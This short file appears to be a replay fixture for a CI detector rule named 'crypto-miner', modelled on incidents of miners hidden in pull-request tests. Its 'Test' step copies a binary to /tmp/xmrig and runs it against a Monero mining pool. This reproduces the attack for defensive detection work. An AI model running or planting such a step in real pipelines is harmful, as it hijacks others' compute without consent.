# incident: Miners in pull requests, 2021; Ultralytics, December 2024
# what: the tests of a pull request start a miner
# rule: crypto-miner
## step: Test
cp $PROP /tmp/xmrig
MUSTER_REPLAY_ROLE=prop /tmp/xmrig pool.minexmr.com:4444 -o stratum+tcp://pool.minexmr.com:4444 --donate-level 1
